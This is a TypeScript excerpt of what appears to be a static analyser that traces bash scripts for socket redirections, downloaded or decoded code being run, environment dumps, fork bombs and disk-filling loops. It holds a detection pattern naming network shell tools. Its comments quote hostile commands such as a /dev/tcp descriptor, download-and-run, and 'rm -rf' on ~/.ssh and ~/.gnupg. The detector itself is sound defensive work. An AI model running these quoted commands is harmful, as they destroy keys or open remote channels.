    const fd2 = plan.fds.has('2') ? plan.fds.get('2') : scopeFd('2');
    let stdin = plan.stdin ?? ctx.stdin;
    if (fd0 !== undefined && fd0 !== 'null' && 'socket' in fd0)
      stdin = { taint: NETWORK, socket: true, redirected: true };
    else if (fd0 === 'null') stdin = { taint: 0, text: '', redirected: true };
    let stdout = ctx.stdout;
    if (fd1 !== undefined)
      stdout =
        fd1 === 'null'
          ? { file: '/dev/null' }
          : 'socket' in fd1
            ? { socket: fd1.socket }
            : 'file' in fd1
              ? { file: fd1.file }
              : stdout;
    if (plan.tail !== undefined) stdout = { program: this.peekProgram(plan.tail) };
    const toSocket = (fd: Fd): boolean => fd !== undefined && fd !== 'null' && 'socket' in fd;
    const outSocket =
      toSocket(fd1) ||
      toSocket(fd2) ||
      (stdout !== undefined &&
        'program' in stdout &&
        /^(?:nc|ncat|netcat|telnet|socat|openssl)$/.test(stdout.program)) ||
      (stdout !== undefined && 'socket' in stdout);
    return { stdin, stdout, socketStdio: stdin.socket === true && outSocket };
  }

  /** After the command: where its output went (files, sockets), and what flows on. */
  private finish(plan: Plan, out: Stream, node: Node, ctx: Context): Stream {
    const line = this.lineOf(node);
    const text = this.textOf(node);
    const at = { line, text };
    let flows = true;
    for (const [fd, target] of plan.fds) {
      if (fd !== '1' && fd !== '2') continue;
      if (target === undefined) continue;
      if (fd === '1') flows = false;
      if (target === 'null' || 'socket' in target || 'read' in target) continue;
      this.writeFile(at, target.file, fd === '1' ? out : { taint: 0 }, target.append);
    }
    for (const also of plan.alsoWrites) this.writeFile(at, also.path, out, also.append);
    for (const socket of plan.sockets) {
      const written =
        !socket.input &&
        [...plan.fds].some(([fd, t]) => fd === '1' && t !== undefined && t !== 'null' && 'socket' in t);
      const interactive = [...plan.fds].some(
        ([fd, t]) => fd === '0' && t !== undefined && t !== 'null' && 'socket' in t,
      );
      const sends = written && !interactive ? out.taint : 0;
      const data =
        written && !interactive && (out.taint !== 0 || (out.text !== undefined && out.text !== ''));
      const fact: NetworkFact = {
        kind: 'network',
        line: this.lineOf(socket.node),
        text,
        op: data ? 'send' : 'connect',
        target: socket.target,
        sends: taintList(sends),
        api: '/dev/tcp',
      };
      this.emit(fact);
    }
    if (plan.tail !== undefined) {
      const tail = plan.tail;
      const stream = { ...out, redirected: true };
      if (tail.type === 'pipeline')
        return this.evalPipeline(
          tail.namedChildren.filter((c): c is Node => c !== null),
          ctx,
          undefined,
          stream,
        );
      if (tail.type === 'list') {
        let result: Stream = NOTHING;
        let first = true;
        for (const child of tail.namedChildren) {
          if (child === null) continue;
          result = concatStreams(result, this.evalNode(child, first ? { ...ctx, stdin: stream } : ctx));
          first = false;
        }
        return result;
      }
      return this.evalNode(tail, { ...ctx, stdin: stream });
    }
    return flows ? out : NOTHING;
  }

  // ---- commands ----------------------------------------------------------------------------------

  private evalCommand(node: Node, ctx: Context, outer: Node[]): Stream {
    let nameNode: Node | undefined;
    const assignments: Node[] = [];
    const argNodes: Node[] = [];
    const redirects: Node[] = [];
    const children = node.children;
    for (let i = 0; i < children.length; i++) {
      const child = children[i];
      if (child === null || child === undefined || !child.isNamed) continue;
      const next = children[i + 1];
      if (
        child.type === 'number' &&
        next?.type === 'file_redirect' &&
        next.startIndex === child.endIndex &&
        next.field('descriptor') === null
      ) {
        this.descriptorOverrides.set(next, child.text);
        continue;
      }
      switch (child.type) {
        case 'variable_assignment':
          assignments.push(child);
          break;
        case 'command_name':
          nameNode = child;
          break;
        case 'file_redirect':
        case 'herestring_redirect':
        case 'heredoc_redirect':
          redirects.push(child);
          break;
        case 'comment':
          break;
        default:
          argNodes.push(child);
      }
    }
    const nameRow = nameNode?.row ?? Number.POSITIVE_INFINITY;
    // `X=1 cmd` sets X for cmd only; an assignment on a line of its own (a grammar quirk) sets it for good.
    for (const a of assignments) {
      if (a.row < nameRow) this.assign(a);
      else {
        const value = a.field('value');
        if (value !== null) this.resolve(value, true);
      }
    }
    const plan = this.plan([...redirects, ...outer]);
    if (nameNode === undefined) return this.finish(plan, NOTHING, node, ctx);
    const wordNode = nameNode.namedChildren[0] ?? nameNode;
    const words: Resolved[] = [this.resolve(wordNode)];
    for (const a of argNodes) words.push(withBraceAlternatives(a, this.resolve(a)));
    // `exec 3<>/dev/tcp/…`, `exec >&3`: without a command, the descriptors stay open for what follows.
    if (words.length === 1 && words[0]?.values[0] === 'exec') {
      for (const [fd, target] of plan.fds) {
        if (target === undefined || target === 'null' || 'read' in target) continue;
        this.scope.descriptors.set(
          fd,
          'socket' in target ? { socket: target.socket } : { file: target.file },
        );
      }
      const sockets = plan.sockets;
      plan.fds.clear();
      plan.sockets = sockets.map((s) => ({ ...s, input: true }));
      return this.finish(plan, NOTHING, node, ctx);
    }
    const io = this.io(plan, ctx);
    const disguise = this.disguise(wordNode, words[0]);
    let count = 1;
    for (const w of words) if (w.values.length > count) count = w.values.length;
    let out: Stream = NOTHING;
    for (let k = 0; k < count; k++) {
      const argv: Arg[] = [];
      for (let i = 0; i < words.length; i++) {
        const w = words[i];
        if (w === undefined) continue;
        const value = w.values[Math.min(k, w.values.length - 1)] ?? '';
        const source = i === 0 ? wordNode.text : (argNodes[i - 1]?.text ?? value);
        if (w.elements !== undefined) {
          for (const e of w.elements) {
            const part = e.values[Math.min(k, e.values.length - 1)] ?? '';
            if (part !== '') argv.push(toArg(e, part, source));
          }
        } else if (value.includes(WORD_BREAK)) {
          for (const part of value.split(WORD_BREAK)) if (part !== '') argv.push(toArg(w, part, source));
        } else argv.push(toArg(w, value, source));
      }
      out = concatStreams(
        out,
        this.invoke(
          argv,
          node,
          { ...ctx, stdin: io.stdin, stdout: io.stdout },
          io.socketStdio,
          io.stdout,
          disguise,
        ),
      );
    }
    return this.finish(plan, out, node, ctx);
  }

  private disguise(wordNode: Node, name: Resolved | undefined): ProcessFact['obfuscated'] {
    if (name !== undefined && (name.taint & DECODED) !== 0) return 'decoded';
    const text = wordNode.text;
    if (text.includes("$'") && hasDenseEscapes(text)) return 'escaped';
    if (SPLIT_NAME_RE.test(text)) return 'split';
    return undefined;
  }

  /** One command line, resolved: unwrap, then run a function of the unit or start a program. */
  private invoke(
    argv: Arg[],
    node: Node,
    ctx: Context,
    socketStdio: boolean,
    stdout: Target | undefined,
    disguise: ProcessFact['obfuscated'],
  ): Stream {
    if (argv.length === 0) return NOTHING;
    const { start, lookupOnly } = unwrapCommand(argv);
    if (lookupOnly) return { taint: 0 };
    const name = argv[start];
    if (name === undefined) return NOTHING;
    const args = argv.slice(start + 1);
    const path = name.value;
    const fn = name.dynamic ? undefined : this.scope.functions.get(path);
    if (fn !== undefined) return this.callFunction(fn, args, ctx, ctx.stdin, stdout);
    const self = name.self === true;
    const dynamic = !self && (name.dynamic || path.includes('$') || path.includes('`') || path === '');
    // `"$0" &`: the script starts itself; its own name is the program.
    const program = self ? this.selfName || '$0' : dynamic ? '<dynamic>' : programName(path);
    const line = this.lineOf(node);
    const text = this.textOf(node);
    const inv: Invocation = {
      program,
      path,
      name,
      args,
      stdin: ctx.stdin,
      stdout,
      line,
      text,
      node,
      background: ctx.background,
      process: undefined,
    };
    // `exec 3<>/dev/tcp/…` with no command keeps the descriptors for the rest of the script.
    if (program === 'exec' && args.length === 0) return NOTHING;
    if (!SILENT_BUILTINS.has(program)) {
      let argTaint = name.taint;
      for (const a of args) argTaint |= a.taint;
      const fact: ProcessFact = {
        kind: 'process',
        line,
        text,
        program,
        args: args.map((a) => a.value),
        stdin: taintList(ctx.stdin.taint),
        argTaint: taintList(argTaint),
      };
      if (socketStdio) fact.socketStdio = true;
      if (this.scope.cwd !== undefined) fact.cwd = this.scope.cwd;
      if (stdout !== undefined)
        fact.stdoutTo =
          'program' in stdout
            ? { program: stdout.program }
            : 'file' in stdout
              ? { file: stdout.file }
              : { file: `/dev/tcp/${stdout.socket.replace(':', '/')}` };
      if (ctx.background) fact.background = true;
      if (ctx.endless) fact.inEndlessLoop = true;
      if (self || this.isSelf(path)) fact.runsSelf = true;
      if (disguise !== undefined) fact.obfuscated = disguise;
      if (self) fact.runsFile = path;
      else if (path.includes('/') && !dynamic && !/^(?:\/usr)?\/s?bin\//.test(path))
        fact.runsFile = this.path(path);
      // `f=$(mktemp); curl -o "$f" …; "$f"`: the temporary file the script made is the one it runs.
      else if (TEMP_FILE_RE.test(path) && !name.source.startsWith('$(')) fact.runsFile = path;
      inv.process = fact;
      this.emit(fact);
    }
    // The program's own name is produced at run time by a command or carries taint: whatever that text is
    // gets run. A variable the unit did not set (`"$EDITOR"`) is only `<dynamic>`.
    const substituted = name.source.startsWith('$(') || name.source.startsWith('`');
    if ((dynamic && substituted) || name.taint !== 0)
      this.exec(
        inv,
        substituted ? 'command-substitution' : 'command-name',
        name.taint,
        dynamic ? undefined : path,
      );
    if (inv.process?.runsFile !== undefined && program !== '<dynamic>')
      this.runFile(inv, inv.process.runsFile, { shell: true, stdin: ctx.stdin });
    const handler: Handler | undefined = handlerFor(program);
    const out = handler?.(inv, this) ?? {
      taint: ctx.stdin.taint,
      redirected: true,
      device: ctx.stdin.device,
    };
    if (ctx.loop !== undefined && inv.process !== undefined) {
      if (ctx.background) ctx.loop.spawns = true;
      if (inv.process.runsSelf === true && ctx.background) {
        ctx.loop.forks = true;
        if (args.every((a) => a.self === true || /^\$[@*]$/.test(a.value))) ctx.loop.replicas = true;
      }
    }
    return out;
  }

  isSelf(path: string): boolean {
    const self = this.selfName;
    return (
      self !== '' &&
      /\.(?:sh|bash|zsh|ksh)$/.test(self) &&
      baseName(path.replace(/^["']|["']$/g, '')) === self
    );
  }

  /**
   * A script file the command runs (`./x`, `bash f.sh`, `. f`): what the unit wrote there earlier decides
   * what runs, a download or a decoded payload included. Shell scripts written by the unit are read as
   * shell; a file with another interpreter's `#!` line is not.
   */
  runFile(inv: Invocation, path: string, how: { shell: boolean; stdin?: Stream; shared?: boolean }): void {
    const content = this.scope.files.get(path);
    if (content === undefined) return;
    if ((content.taint & (NETWORK | DECODED)) !== 0) this.exec(inv, 'run-file', content.taint, content.text);
    const text = content.text;
    if (!how.shell || text === undefined || text.startsWith('\x7fELF')) return;
    if (text.startsWith('#!') && !/^#!\s*\S*(?:\/|env\s+)(?:ba|z|k|da|mk|a)?sh\b/.test(text)) return;
    this.runCode(text, inv.line, content.taint, how.stdin ?? TERMINAL, how.shared === true);
  }

  /** `pwsh -c …` inside a shell script: PowerShell's own reading, facts on the invoking line. */
  runPowerShell(code: string, line: number, taint: number): void {
    if (this.options.depth >= MAX_CODE_DEPTH) return;
    const facts = readPowerShellText(code, {
      line,
      taint: taintList(this.options.inherited | taint),
      depth: this.options.depth + 1,
      shell: (command, at, t) => {
        const inner: Fact[] = [];
        const walker = new ShellWalker({
          ...this.options,
          facts: inner,
          scope: new ShellScope(this.scope),
          lineBase: at,
          inherited: taintBits(t),
          depth: this.options.depth + 2,
        });
        walker.run(command);
        return inner;
      },
    });
    for (const fact of facts) this.facts.push(fact);
  }

  private callFunction(
    def: Node,
    args: Arg[],
    ctx: Context,
    stdin: Stream,
    stdout: Target | undefined,
  ): Stream {
    const name = def.field('name')?.text ?? '';
    const frame = this.frames.find((f) => f.name === name);
    if (frame !== undefined) {
      if (ctx.background || ctx.piped) frame.copies++;
      return { taint: 0 };
    }
    const body = def.field('body');
    if (body === null || this.frames.length >= MAX_FRAMES || this.options.budget.inlines <= 0)
      return { taint: 0 };
    this.options.budget.inlines--;
    this.walkedFunctions.add(def);
    const saved = this.scope.positional;
    this.scope.positional = args.map((a) => ({
      values: [a.value],
      taint: a.taint,
      secrets: a.secrets,
      dynamic: a.dynamic,
    }));
    const own: Frame = { name, copies: 0 };
    this.frames.push(own);
    const savedStatement = this.statement;
    this.statement = undefined;
    let out: Stream;
    try {
      out = this.evalNode(body, { ...ctx, stdin, stdout, piped: false });
    } finally {
      this.frames.pop();
      this.scope.positional = saved;
      this.statement = savedStatement;
    }
    if (own.copies > 0 && !this.reportedBombs.has(def)) {
      this.reportedBombs.add(def);
      // Two concurrent copies per call double the processes at every level: a fork bomb.
      this.loop(
        { line: this.lineOf(def), text: def.text },
        { endless: true, spawns: true, forks: own.copies >= 2, fills: false },
      );
    }
    return out;
  }

  // ---- assignments -------------------------------------------------------------------------------

  assign(node: Node): void {
    const nameNode = node.field('name');
    if (nameNode === null) return;
    const name = nameNode.type === 'subscript' ? (nameNode.field('name')?.text ?? '') : nameNode.text;
    const valueNode = node.field('value');
    const value =
      valueNode === null
        ? { values: [''], taint: 0, dynamic: false, self: false, substitution: false }
        : this.resolve(valueNode, true);
    const append = node.children.some((c) => c?.type === '+=');
    const previous = append ? this.scope.vars.get(name) : undefined;
    const merged =
      previous === undefined
        ? value
        : concatResolved([{ ...fromShellValue(previous), self: false, substitution: false }, value]);
    const elements =
      value.elements === undefined || (append && previous?.elements === undefined)
        ? undefined
        : [...(previous?.elements ?? []), ...value.elements.map(toShellValue)];
    this.scope.vars.set(name, {
      values: merged.values,
      taint: merged.taint,
      secrets: merged.secrets,
      dynamic: merged.dynamic,
      ...(elements === undefined ? {} : { elements }),
    });
  }

  /** Sets a variable from a handler (`read`, `mapfile`, `printf -v`, `ztcp`). */
  setVariable(
    name: string,
    value: { values: string[]; taint: number; secrets?: readonly string[]; dynamic: boolean },
  ): void {
    this.scope.vars.set(name, value);
  }

  private evalDeclaration(node: Node): Stream {
    const keyword = node.children[0]?.type ?? '';
    const words: string[] = [];
    let assigned = false;
    for (const child of node.namedChildren) {
      if (child === null) continue;
      if (child.type === 'variable_assignment') {
        this.assign(child);
        assigned = true;
      } else if (child.type === 'word') words.push(child.text);
      else if (child.type === 'variable_name') assigned = true;
      else this.evalSubstitutionsIn(child);
    }
    // `export -p`, `declare -x`, `typeset -p`: every variable with its value, secrets included.
    if (
      !assigned &&
      (words.length === 0
        ? keyword === 'export' || keyword === 'declare' || keyword === 'typeset'
        : words.every((w) => /^-[xp]+$/.test(w)))
    ) {
      if (keyword === 'local' || keyword === 'readonly') return NOTHING;
      const line = this.lineOf(node);
      this.emit({ kind: 'env', line, text: this.textOf(node), op: 'dump' });
      return { taint: ENVIRONMENT };
    }
    return NOTHING;
  }

  /** Command and process substitutions inside a construct that is not a command (`[[ … ]]`, a case word). */
  private evalSubstitutionsIn(node: Node): void {
    const stack: Node[] = [node];
    for (let guard = 0; stack.length > 0 && guard < 10_000; guard++) {
      const n = stack.pop();
      if (n === undefined) break;
      if (
        n.type === 'command_substitution' ||
        n.type === 'process_substitution' ||
        n.type === 'simple_expansion' ||
        n.type === 'expansion'
      ) {
        this.resolve(n);
        continue;
      }
      for (const child of n.namedChildren) if (child !== null) stack.push(child);
    }
  }

  // ---- loops -------------------------------------------------------------------------------------

  private evalWhile(node: Node, ctx: Context): Stream {
    const until = node.children[0]?.type === 'until';
    const conditions = node.fields('condition').filter((c): c is Node => c?.isNamed);
    const conditionText = conditions
      .map((c) => c.text)
      .join(' ')
      .trim();
    // `while touch "$d/f$n"; do n=$((n+1)); done`: the loop stops only when the disk refuses a new file.
    const fillsUntilFull =
      !until &&
      FILLS_UNTIL_FULL_RE.test(conditionText) &&
      !/\b(?:break|exit|return)\b/.test(node.field('body')?.text ?? '');
    const endless = fillsUntilFull || (until ? ENDLESS_UNTIL_RE : ENDLESS_WHILE_RE).test(conditionText);
    return this.evalLoopBody(node, ctx, endless, undefined, () => {
      let out: Stream = NOTHING;
      const inner = this.context;
      if (fillsUntilFull) this.noteFill();
      for (const c of conditions)
        out = concatStreams(
          out,
          this.withStatement(c, () => this.evalNode(c, inner)),
        );
      const body = node.field('body');
      if (body !== null) out = concatStreams(out, this.evalNode(body, inner));
      return out;
    });
  }

  private evalFor(node: Node, ctx: Context): Stream {
    const variable = node.field('variable')?.text;
    const valueNodes = node.fields('value').filter((c): c is Node => c !== null);
    const values: string[] = [];
    let taint = 0;
    let dynamic = false;
    let iterations = 0;
    let counted = true;
    let secrets: readonly string[] | undefined;
    this.withStatement(node, () => {
      for (const v of valueNodes) {
        const range = rangeCount(v);
        if (range !== undefined) {
          iterations += range;
          values.push(v.text);
          continue;
        }
        const r = this.resolve(v);
        taint |= r.taint;
        secrets = r.secrets ?? secrets;
        if (r.dynamic) {
          dynamic = true;
          counted = false;
        }
        for (const value of r.values)
          for (const part of value.split(
            v.type === 'command_substitution' || v.type === 'simple_expansion' ? /[\s\u0001]+/ : WORD_BREAK,
          ))
            if (part !== '') {
              values.push(part);
              iterations++;
            }
      }
    });
    if (variable !== undefined) {
      const listed =
        valueNodes.length === 0 ? (this.scope.positional ?? []).flatMap((p) => p.values) : values;
      this.scope.vars.set(variable, {
        values: listed.length === 0 ? [`$${variable}`] : listed.slice(0, 8),
        taint,
        secrets,
        dynamic,
      });
    }
    return this.evalLoopBody(
      node,
      ctx,
      false,
      counted && valueNodes.length > 0 ? iterations : undefined,
      () => {
        const body = node.field('body');
        return body === null ? NOTHING : this.evalNode(body, this.context);
      },
    );
  }

  private evalCFor(node: Node, ctx: Context): Stream {
    const header = /^for\s*\(\(([^;]*);([^;]*);([^)]*)\)\)/.exec(node.text);
    const condition = header?.[2]?.trim() ?? 'x';
    const endless = condition === '' || condition === '1';
    const bound = /^(\w+)\s*=\s*(\d+)$/.exec(header?.[1]?.trim() ?? '');
    const limit = /^(\w+)\s*(<=?)\s*(\d+)$/.exec(condition);
    const iterations =
      bound !== null && limit !== null && bound[1] === limit[1]
        ? Number(limit[3]) - Number(bound[2]) + (limit[2] === '<=' ? 1 : 0)
        : undefined;
    return this.evalLoopBody(node, ctx, endless, iterations, () => {
      const body = node.field('body');
      return body === null ? NOTHING : this.evalNode(body, this.context);
    });
  }

  /** Runs a loop body once, watching what it does; an endless, forking or huge loop becomes a fact. */
  private evalLoopBody(
    node: Node,
    ctx: Context,
    endless: boolean,
    iterations: number | undefined,
    body: () => Stream,
  ): Stream {
    const stats: LoopStats = { spawns: false, forks: false, replicas: false, fills: false };
    const inner: Context = { ...ctx, endless: ctx.endless || endless, loop: stats };
    const saved = this.context;
    this.context = inner;
    let out: Stream;
    try {
      out = body();
    } finally {
      this.context = saved;
    }
    if (endless || stats.forks || (iterations !== undefined && iterations >= LARGE_LOOP)) {
      const fact: LoopFact = {
        kind: 'loop',
        line: this.lineOf(node),
        text: node.text,
        endless,
        spawns: stats.spawns || stats.forks,
        // A bounded loop of copies with their own arguments is a worker pool; copies of the whole script
        // run the loop again, which never ends.
        forks: endless ? stats.forks : stats.replicas,
        fills: stats.fills,
      };
      if (!endless && iterations !== undefined) fact.iterations = iterations;
      this.emit(fact);
    }
    if (ctx.loop !== undefined) {
      ctx.loop.spawns ||= stats.spawns;
      ctx.loop.forks ||= stats.forks;
      ctx.loop.replicas ||= stats.replicas;
      ctx.loop.fills ||= stats.fills;
    }
    return out;
  }
}

function fromShellValue({ elements: _elements, ...value }: ShellValue): Omit<ShellValue, 'elements'> {
  return value;
}

function toShellValue(r: Resolved): ShellValue {
  const v: ShellValue = { values: r.values, taint: r.taint, dynamic: r.dynamic };
  if (r.secrets !== undefined) v.secrets = r.secrets;
  return v;
}

function toArg(w: Resolved, value: string, source: string): Arg {
  const arg: Arg = { value, taint: w.taint, dynamic: w.dynamic, source };
  if (w.secrets !== undefined) arg.secrets = w.secrets;
  if (w.self) arg.self = true;
  if (w.substitution) arg.substitution = true;
  return arg;
}

/** Base name of a program; Windows executables run from a shell lose their `.exe`. */
function programName(path: string): string {
  const base = baseName(path);
  return /\.exe$/i.test(base) ? base.slice(0, -4).toLowerCase() : base;
}

/** A brace list outside quotes: `{.ssh,.gnupg}` (a range like `{1..9}` has no comma). */
const BRACE_LIST_RE = /\{[^{}\s'"]*,[^{}\s'"]*\}/;

/**
 * `rm -rf ~/{.ssh,.gnupg}`: bash expands an unquoted brace list into one word per alternative before the
 * command runs, so each alternative is what the command may get.
 */
function withBraceAlternatives(node: Node, word: Resolved): Resolved {
  const raw = node.text;
  if (!raw.includes('{') || !raw.includes(',')) return word;
  if (!BRACE_LIST_RE.test(raw.replace(/'[^']*'|"(?:\\.|[^"\\])*"/g, '""'))) return word;
  return { ...word, values: word.values.flatMap(expandBraces).slice(0, 64) };
}

function isInside(node: Node, outer: Node): boolean {
  return node.startIndex >= outer.startIndex && node.endIndex <= outer.endIndex;
}

/** `{1..100000}` and `$(seq 1 N)`: how many words the loop goes over. */
function rangeCount(node: Node): number | undefined {
  const text = node.text;
  const brace = /^\{(-?\d+)\.\.(-?\d+)(?:\.\.(-?\d+))?\}$/.exec(text);
  if (brace !== null)
    return (
      Math.floor(Math.abs(Number(brace[2]) - Number(brace[1])) / Math.abs(Number(brace[3] ?? 1) || 1)) + 1
    );
  const seq = /^["']?\$\(\s*seq\s+(?:(-?\d+)\s+)?(?:(-?\d+)\s+)?(-?\d+)\s*\)["']?$/.exec(text);
  if (seq !== null) {
    const first = Number(seq[1] ?? 1);
    const step = seq[2] === undefined ? 1 : Number(seq[1] === undefined ? 1 : seq[2]);
    const last = Number(seq[3]);
    return step === 0 ? undefined : Math.max(0, Math.floor((last - first) / step) + 1);
  }
  return undefined;
}
